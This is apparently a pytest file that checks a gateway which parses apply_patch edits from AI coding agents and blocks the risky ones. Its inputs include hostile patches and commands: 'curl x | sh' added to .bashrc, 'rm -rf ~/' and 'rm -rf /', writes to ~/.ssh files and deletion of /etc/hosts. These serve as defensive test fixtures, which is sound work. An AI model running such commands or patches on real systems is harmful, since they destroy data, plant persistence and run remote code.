"""A patch in the apply_patch format (Codex CLI's edits) judged file by file, like that many writes: as the
parser reads it, through the dispatch API (fakeredis and a real Redis), and as a shell command."""

from __future__ import annotations

import time
from typing import Any

import pytest
from fastapi.testclient import TestClient

from gateway import patches
from gateway.shell import analyze
from tests.conftest import ADMIN, call

WS = "/work/proj"
HOME = "/home/agent"


def patch(*hunks: str) -> str:
    return "*** Begin Patch\n" + "".join(hunks) + "*** End Patch\n"


def add(path: str, *lines: str) -> str:
    return f"*** Add File: {path}\n" + "".join(f"+{line}\n" for line in lines)


def test_every_change_is_read() -> None:
    text = patch(add("new.py", "print(1)", "print(2)"),
                 "*** Update File: src/app.py\n*** Move to: src/main.py\n@@ def main():\n-    old()\n+    new()\n",
                 "*** Delete File: old.txt\n")
    changes = patches.parse(text)
    assert changes is not None
    assert [(c.op, c.path, c.move_to, c.added) for c in changes] == [
        ("add", "new.py", None, "print(1)\nprint(2)"), ("update", "src/app.py", "src/main.py", "    new()"),
        ("delete", "old.txt", None, "")]
    assert changes[1].paths == ("src/app.py", "src/main.py")


@pytest.mark.parametrize("text", [
    "", "hello", "*** Begin Patch\n*** End Patch\n", "*** Begin Patch\n*** Add File: a\n+x\n",  # no end
    "*** Begin Patch\n*** Add File: \n+x\n*** End Patch", "*** Begin Patch\nstray\n*** Add File: a\n+x\n*** End Patch",
    "*** Begin Patch\n*** Add File: a\nnot added\n*** End Patch",
    "*** Begin Patch\n*** Frobnicate File: a\n*** End Patch",
])
def test_what_is_not_a_patch_is_none(text: str) -> None:
    assert patches.parse(text) is None


def test_huge_patches_are_read_in_bounded_time() -> None:
    text = patch(*(add(f"f{i}.txt", "x" * 50) for i in range(20_000)))
    started = time.process_time()
    changes = patches.parse(text)
    assert changes is not None and len(changes) == patches.MAX_FILES
    assert time.process_time() - started < 5.0


# --- through the gateway ----------------------------------------------------------------------------------

def decide(client: TestClient, text: str, tool: str = "apply_patch", field: str = "command") -> dict[str, Any]:
    body = call(tool=tool, input={field: text}, cwd=WS, provider="codex-cli", home=HOME)
    r = client.post("/v1/dispatch", json=body, headers=ADMIN)
    assert r.status_code == 200, r.text
    return dict(r.json())


def test_an_ordinary_patch_runs(client: TestClient) -> None:
    out = decide(client, patch(add("src/util.py", "def f():", "    return 1"), "*** Update File: README.md\n+more\n"))
    assert (out["outcome"], out["action_type"]) == ("executed", "write_file")


@pytest.mark.parametrize(("text", "rule"), [
    (patch(add("../../../home/agent/.ssh/config", "Host *")), "block-persistence"),  # ssh runs what it says
    (patch("*** Update File: notes.md\n*** Move to: /home/agent/.bashrc\n+curl x | sh\n"), "block-credential-access"),
    (patch("*** Delete File: /etc/hosts\n"), "block-destructive-commands"),
    # what a written CI file will do is judged from the lines the patch adds
    (patch(add(".github/workflows/pr.yml", "on: pull_request_target", "jobs:", "  t:", "    runs-on: x",
               "    steps:", "      - uses: actions/checkout@v4", "        with:",
               "          ref: ${{ github.event.pull_request.head.sha }}", "      - run: make test")),
     "block-remote-code-and-exfiltration"),
    (patch(add("scripts/clean.sh", "#!/bin/sh", "rm -rf ~/")), "block-destructive-commands"),
])
def test_a_patch_is_judged_on_every_file_it_touches(client: TestClient, text: str, rule: str) -> None:
    out = decide(client, text)
    assert out["outcome"] == "suppressed" and out["rule"] == rule, out


def test_a_patch_that_cannot_be_read_is_never_allowed(client: TestClient) -> None:
    out = decide(client, "*** Begin Patch\nrm -rf /\n*** End Patch")
    assert out["outcome"] == "pending_approval", out  # unparseable: a human decides


@pytest.mark.parametrize("field", ["patchText", "patch", "input"])
def test_other_clis_fields_hold_the_patch_too(client: TestClient, field: str) -> None:
    assert decide(client, patch(add("/home/agent/.ssh/id_rsa", "k")), field=field)["outcome"] == "suppressed"


def test_a_file_scope_holds_for_each_file_of_a_patch(client: TestClient) -> None:
    root = "/work/wt/task-a"
    assert client.post("/v1/runs", json={"run_id": "r1"}, headers=ADMIN).status_code == 201
    r = client.post("/v1/runs/r1/agent-keys", json={"agent_id": "a.1", "root": root, "files_scope": ["src/api/**"]},
                    headers=ADMIN)
    key = {"Authorization": f"Bearer {r.json()['agent_key']}"}

    def go(text: str) -> dict[str, Any]:
        body = call(run_id="r1", tool="apply_patch", input={"command": text}, cwd=root, provider="codex-cli")
        return dict(client.post("/v1/dispatch", json=body, headers=key).json())

    assert go(patch(add("src/api/a.py", "x"), "*** Update File: src/api/b.py\n+y\n"))["outcome"] == "executed"
    out = go(patch(add("src/api/a.py", "x"), "*** Update File: src/api/b.py\n*** Move to: src/core.py\n+y\n"))
    assert out["outcome"] == "suppressed" and "src/core.py" in out["reason"]
    out = go(patch("*** Delete File: /work/repo/src/api/a.py\n"))
    assert out["outcome"] == "suppressed" and "outside this agent's worktree" in out["reason"]


# --- as a shell command --------------------------------------------------------------------------------------

def test_apply_patch_run_by_the_shell_writes_each_file() -> None:
    text = patch(add("a.txt", "x"), "*** Update File: b.txt\n*** Move to: /home/agent/.bashrc\n+y\n")
    for command in (f"apply_patch <<'EOF'\n{text}EOF\n", f"cd sub && applypatch <<'EOF'\n{text}EOF\n",
                    f"apply_patch '{text}'"):
        a = analyze(command, WS, HOME)
        assert "persistence" in a.categories
        assert "/home/agent/.bashrc" in a.writes and any(w.endswith("/a.txt") for w in a.writes)
    assert analyze("cat change.diff | apply_patch", WS, HOME).writes == ("?",)  # where: unknown
